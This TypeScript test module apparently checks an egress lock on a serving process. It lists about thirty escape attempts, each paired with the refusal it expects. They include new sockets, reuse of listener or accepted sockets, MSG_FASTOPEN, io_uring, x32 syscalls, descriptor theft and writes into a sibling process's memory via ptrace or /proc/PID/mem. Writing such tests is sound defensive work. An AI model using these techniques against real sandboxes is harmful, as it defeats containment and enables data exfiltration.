/**
 * Ways out of a process that only serves, each tried with and without the lock.
 *
 * @module
 */
import { PERL } from "../host.ts";
import { openRing, type Ring, sendByRing } from "./io_uring.ts";
import { type Attack, FAR, FAR_PORT, type Scene, WIRE, WIRE_FAR6 } from "./scene.ts";
import { addressOf, bytesOf, inet, numberOf, unix, unspec, words } from "./system.ts";

const AF_UNIX = 1;
const AF_INET = 2;
const STREAM = 1;
const DATAGRAM = 2;
const MPTCP = 262;
const MSG_FASTOPEN = 0x2000_0000;
const SHUT_RDWR = 2;
const SOL_SOCKET = 1;
const SO_BINDTODEVICE = 25;
const IPPROTO_IPV6 = 41;
const IPV6_RTHDR = 57;
const AT_FDCWD = -100;
const O_RDWR = 2;

const far = () => inet(FAR, FAR_PORT);

function write({ sys, mark }: Scene, descriptor: number): void {
  sys("write", descriptor, bytesOf(mark), mark.length);
}

const openMemory = ({ sys, sibling }: Scene): number =>
  sys("openat", AT_FDCWD, bytesOf(`/proc/${sibling.pid}/mem\0`), O_RDWR, 0);

function connectAndWrite(scene: Scene, descriptor: number): void {
  scene.sys("connect", descriptor, far(), 16);
  write(scene, descriptor);
}

/** Makes a socket that served into one that may connect. */
function loosen({ sys }: Scene, descriptor: number): void {
  sys("connect", descriptor, unspec(), 16);
  sys("bind", descriptor, inet("0.0.0.0", 0), 16);
}

function sendFastOpen({ sys, mark }: Scene, descriptor: number): void {
  sys("sendto", descriptor, bytesOf(mark), mark.length, MSG_FASTOPEN, far(), 16);
}

/** `struct msghdr` with one buffer; the parts must outlive the call, hence the callback. */
function withMessage(
  mark: string,
  to: Uint8Array<ArrayBuffer> | undefined,
  use: (message: Uint8Array<ArrayBuffer>) => void,
): void {
  const payload = bytesOf(mark);
  const vector = words(addressOf(payload), payload.length);
  use(words(to === undefined ? 0n : addressOf(to), to?.length ?? 0, addressOf(vector), 1, 0, 0, 0));
}

/** Takes a descriptor out of a message that waits on the accepted connection. */
function receive({ sys, accepted }: Scene, by: "recvmsg" | "recvmmsg"): number {
  const control = new Uint8Array(64);
  const payload = new Uint8Array(8);
  const vector = words(addressOf(payload), payload.length);
  const message = words(0, 0, addressOf(vector), 1, addressOf(control), control.length, 0, 0);
  if (by === "recvmsg") sys("recvmsg", accepted, message, 0);
  else sys("recvmmsg", accepted, message, 1, 0, 0);
  return new DataView(control.buffer).getInt32(16, true);
}

const descriptorOf = (before: unknown): number => {
  if (typeof before !== "number") throw new TypeError("no descriptor");
  return before;
};

export const ATTACKS: readonly Attack[] = [
  {
    name: "a new TCP connection",
    run: (scene) => connectAndWrite(scene, scene.sys("socket", AF_INET, STREAM, 0)),
    refused: "socket: E",
  },
  {
    name: "a new TCP connection from another thread",
    before: (scene) => scene.sysElsewhere("getsockname", -1, 0, 0).catch(() => {}),
    run: async (scene) => {
      const descriptor = await scene.sysElsewhere("socket", AF_INET, STREAM, 0);
      connectAndWrite(scene, descriptor);
    },
    refused: "socket: refused",
  },
  {
    name: "a new TCP connection of JavaScript's",
    run: async (scene) => {
      const connection = await Deno.connect({ hostname: FAR, port: FAR_PORT });
      await connection.write(bytesOf(scene.mark));
    },
    refused: "Unknown error E (os error E)",
  },
  {
    name: "a new TCP connection of a child",
    perl: true,
    run: async (scene) => {
      const script =
        `use Socket; socket(S, AF_INET, SOCK_STREAM, 0) or do { print 0 + $!; exit }; connect(S, sockaddr_in(${FAR_PORT}, inet_aton("${FAR}"))); syswrite S, "${scene.mark}"`;
      const { stdout } = await new Deno.Command(PERL, { args: ["-e", script], clearEnv: true })
        .output();
      const said = new TextDecoder().decode(stdout);
      if (said !== "") throw new Error(`child: ${said}`);
    },
    refused: "child: E",
  },
  {
    name: "a new MPTCP connection",
    run: (scene) => connectAndWrite(scene, scene.sys("socket", AF_INET, STREAM, MPTCP)),
    refused: "socket: E",
  },
  {
    name: "a new UDP socket",
    run: (scene) => {
      const descriptor = scene.sys("socket", AF_INET, DATAGRAM, 0);
      scene.sys("sendto", descriptor, bytesOf(scene.mark), scene.mark.length, 0, far(), 16);
    },
    refused: "socket: E",
  },
  {
    name: "a Unix socket of another program",
    run: (scene) => {
      const descriptor = scene.sys("socket", AF_UNIX, STREAM, 0);
      scene.sys("connect", descriptor, unix(scene.streamPath), 110);
      write(scene, descriptor);
    },
    refused: "socket: E",
  },
  {
    name: "a pair of Unix datagram sockets, with a receiver named in the message",
    run: (scene) => {
      const pair = new Uint8Array(8);
      scene.sys("socketpair", AF_UNIX, DATAGRAM, 0, pair);
      const to = unix(scene.datagramPath);
      withMessage(
        scene.mark,
        to,
        (message) => scene.sys("sendmsg", new DataView(pair.buffer).getInt32(0, true), message, 0),
      );
    },
    refused: "socketpair: E",
  },
  {
    name: "the listener, by connect(AF_UNSPEC)",
    run: (scene) => {
      loosen(scene, scene.listener);
      connectAndWrite(scene, scene.listener);
    },
    refused: "connect: E",
  },
  {
    name: "the listener, by shutdown",
    run: (scene) => {
      scene.sys("shutdown", scene.listener, SHUT_RDWR);
      loosen(scene, scene.listener);
      connectAndWrite(scene, scene.listener);
    },
    refused: "connect: E",
  },
  {
    name: "an accepted connection, by connect(AF_UNSPEC)",
    run: (scene) => {
      loosen(scene, scene.accepted);
      connectAndWrite(scene, scene.accepted);
    },
    refused: "connect: E",
  },
  {
    name: "an accepted connection, by connect(AF_UNSPEC) and sendto(MSG_FASTOPEN)",
    run: (scene) => {
      loosen(scene, scene.accepted);
      sendFastOpen(scene, scene.accepted);
    },
    refused: "connect: E",
  },
  {
    name: "an accepted connection, by connect(AF_UNSPEC) and sendmsg(MSG_FASTOPEN)",
    run: (scene) => {
      loosen(scene, scene.accepted);
      const to = far();
      withMessage(scene.mark, to, (message) => scene.sys("sendmsg", scene.accepted, message, MSG_FASTOPEN));
    },
    refused: "connect: E",
  },
  {
    name: "sendto(MSG_FASTOPEN) on a socket that was opened before",
    before: (scene) => scene.sys("socket", AF_INET, STREAM, 0),
    run: (scene, before) => sendFastOpen(scene, descriptorOf(before)),
    refused: "sendto: E",
    how: "filter",
  },
  {
    name: "sendmsg(MSG_FASTOPEN) on a socket that was opened before",
    before: (scene) => scene.sys("socket", AF_INET, STREAM, 0),
    run: (scene, before) => {
      const to = far();
      withMessage(
        scene.mark,
        to,
        (message) => scene.sys("sendmsg", descriptorOf(before), message, MSG_FASTOPEN),
      );
    },
    refused: "sendmsg: E",
    how: "filter",
  },
  {
    name: "sendto on a UDP socket that was opened before",
    before: (scene) => scene.sys("socket", AF_INET, DATAGRAM, 0),
    run: (scene, before) =>
      void scene.sys("sendto", descriptorOf(before), bytesOf(scene.mark), scene.mark.length, 0, far(), 16),
    refused: "sendto: E",
    how: "filter",
  },
  {
    name: "sendmsg on a UDP socket that was opened before",
    before: (scene) => scene.sys("socket", AF_INET, DATAGRAM, 0),
    run: (scene, before) => {
      const to = far();
      withMessage(scene.mark, to, (message) => scene.sys("sendmsg", descriptorOf(before), message, 0));
    },
    refused: "Cannot take the egress lock: descriptor N is a socket (IPv4)",
  },
  {
    name: "a pooled connection",
    before: (scene) => {
      const descriptor = scene.sys("socket", AF_INET, STREAM, 0);
      scene.sys("connect", descriptor, far(), 16);
      return descriptor;
    },
    run: (scene, before) => write(scene, descriptorOf(before)),
    refused: `Cannot take the egress lock: descriptor N is a socket (IPv4) connected to ${FAR}:${FAR_PORT}`,
  },
  {
    name: "a second listener",
    before: (scene) => {
      const descriptor = scene.sys("socket", AF_INET, STREAM, 0);
      scene.sys("bind", descriptor, inet("127.0.0.1", 0), 16);
      scene.sys("listen", descriptor, 1);
      return descriptor;
    },
    run: (scene, before) => {
      loosen(scene, descriptorOf(before));
      connectAndWrite(scene, descriptorOf(before));
    },
    refused: "Cannot take the egress lock: descriptor N is a socket (IPv4) that listens at 127.0.0.1:N",
  },
  {
    name: "io_uring",
    run: (scene) => sendByRing(openRing(scene, false), FAR, FAR_PORT, scene.mark),
    refused: "io_uring_setup: 38",
  },
  {
    name: "io_uring with a ring that was made before",
    before: (scene) => openRing(scene, false),
    run: (scene, before) => sendByRing(before as Ring, FAR, FAR_PORT, scene.mark), // what `before` made
    refused: "io_uring_enter: 38",
    how: "filter",
  },
  {
    name: "io_uring with a ring that a kernel thread polls",
    before: (scene) => openRing(scene, true),
    run: (scene, before) => sendByRing(before as Ring, FAR, FAR_PORT, scene.mark), // what `before` made
    refused: "Cannot take the egress lock: descriptor N is an io_uring",
  },
  {
    name: "x32's numbers",
    run: (scene) => {
      const x32 = (name: "socket" | "connect") => 0x4000_0000 + numberOf(name);
      const descriptor = scene.call("socket", x32("socket"), AF_INET, STREAM, 0);
      scene.call("connect", x32("connect"), descriptor, far(), 16);
      write(scene, descriptor);
    },
    refused: "socket: 38",
  },
  {
    name: "a descriptor passed by a client, taken with recvmsg",
    home: "unix",
    run: (scene) => write(scene, receive(scene, "recvmsg")),
    refused: "recvmsg: E",
  },
  {
    name: "a descriptor passed by a client, taken with recvmmsg",
    home: "unix",
    run: (scene) => write(scene, receive(scene, "recvmmsg")),
    refused: "recvmmsg: E",
  },
  {
    // The kernel then sends the connection's packets to the first stop of the route, from ::1 and to whom it may concern.
    name: "an accepted IPv6 connection, by a source route",
    home: "ipv6",
    wire: true,
    run: (scene) => {
      const header = new Uint8Array([0, 4, 4, 1, 1, 0, 0, 0, ...new Uint8Array(15), 1, ...WIRE_FAR6]);
      scene.sys("setsockopt", scene.accepted, IPPROTO_IPV6, IPV6_RTHDR, header, header.length);
      write(scene, scene.accepted);
    },
    refused: "setsockopt: E",
  },
  {
    // Where route_localnet is on, as on nodes of Kubernetes.
    name: "an accepted connection, by SO_BINDTODEVICE",
    wire: true,
    run: (scene) => {
      const name = bytesOf(`${WIRE}\0`);
      scene.sys("setsockopt", scene.accepted, SOL_SOCKET, SO_BINDTODEVICE, name, name.length);
      write(scene, scene.accepted);
    },
    refused: "setsockopt: E",
  },
  {
    name: "a sibling's descriptor, by pidfd_getfd",
    run: (scene) => {
      const process = scene.sys("pidfd_open", scene.sibling.pid, 0);
      write(scene, scene.sys("pidfd_getfd", process, scene.sibling.socket, 0));
    },
    refused: "pidfd_getfd: E",
  },
  {
    name: "a sibling's memory, by process_vm_writev",
    run: (scene) => {
      const payload = bytesOf(scene.mark);
      const local = words(addressOf(payload), payload.length);
      const remote = words(scene.sibling.address, payload.length);
      scene.sys("process_vm_writev", scene.sibling.pid, local, 1, remote, 1, 0);
    },
    refused: "process_vm_writev: E",
  },
  {
    name: "a sibling's memory, by ptrace",
    run: (scene) => {
      const [ATTACH, POKE, DETACH] = [16, 5, 17];
      scene.sys("ptrace", ATTACH, scene.sibling.pid, 0, 0);
      scene.sys("wait4", scene.sibling.pid, 0, 0x4000_0000, 0);
      scene.sys(
        "ptrace",
        POKE,
        scene.sibling.pid,
        scene.sibling.address,
        new DataView(bytesOf(scene.mark).buffer).getBigUint64(0, true),
      );
      scene.sys("ptrace", DETACH, scene.sibling.pid, 0, 0);
    },
    refused: "ptrace: E",
  },
  {
    // The filter sees no paths, but it sees positions in files, which here are addresses.
    name: "a sibling's memory, by /proc/PID/mem",
    run: (scene) => {
      const file = openMemory(scene);
      scene.sys("pwrite64", file, bytesOf(scene.mark), scene.mark.length, scene.sibling.address);
    },
    refused: "pwrite64: E",
  },
  {
    name: "a sibling's memory, by /proc/PID/mem and a vector",
    run: (scene) => {
      const payload = bytesOf(scene.mark);
      const vector = words(addressOf(payload), payload.length);
      scene.sys("pwritev", openMemory(scene), vector, 1, scene.sibling.address, 0);
    },
    refused: "pwritev: E",
  },
  {
    name: "a sibling's memory, by /proc/PID/mem and a seek",
    run: (scene) => {
      const file = openMemory(scene);
      scene.sys("lseek", file, scene.sibling.address, 0);
      write(scene, file);
    },
    refused: "lseek: E",
  },
  {
    name: "a sibling's memory, by /proc/PID/mem and seeks from where it stands",
    run: (scene) => {
      const file = openMemory(scene);
      const { address } = scene.sibling;
      for (const part of [address / 2n, address - address / 2n]) scene.sys("lseek", file, part, 1);
      write(scene, file);
    },
    refused: "lseek: E",
  },
];
